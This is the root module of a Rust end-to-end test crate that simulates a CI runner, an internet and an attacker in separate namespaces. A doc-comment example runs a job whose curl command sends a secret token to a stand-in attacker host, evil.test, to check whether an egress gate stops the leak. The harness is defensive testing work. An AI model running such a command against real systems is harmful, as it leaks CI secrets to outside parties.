//! The test world: a runner host, an internet and an attacker in namespaces of their own, a runner stand-in, and what
//! end-to-end tests need around them.
//!
//! ```no_run
//! # fn main() -> anyhow::Result<()> {
//! use portcullis_tests::{Canary, Job, World};
//!
//! let world = World::builder().build()?;
//! let canary = Canary::generate()?;
//! let result = world.runner(0).run(
//!     &Job::script("curl -sS https://ok.test/ && curl -sS https://evil.test/$TOKEN")
//!         .secret("TOKEN", canary.as_str()),
//! )?;
//! assert!(world.attacker().saw(&canary)?, "no gate is up: {}", result.log());
//! # Ok(())
//! # }
//! ```

pub mod attacker;
pub mod binaries;
pub mod canary;
pub mod cgroup;
pub mod evidence;
pub mod gate;
pub mod job;
pub mod namespace;
pub mod patience;
pub mod policy_server;
pub mod receivers;
pub mod server;
pub mod stand_in;
mod sync;
pub mod world;
pub mod zlib;

pub use canary::Canary;
pub use job::{Job, JobOutcome, JobResult, StepKind, StepOutcome};
pub use patience::{wait_for, wait_for_within, wait_until};
pub use world::World;
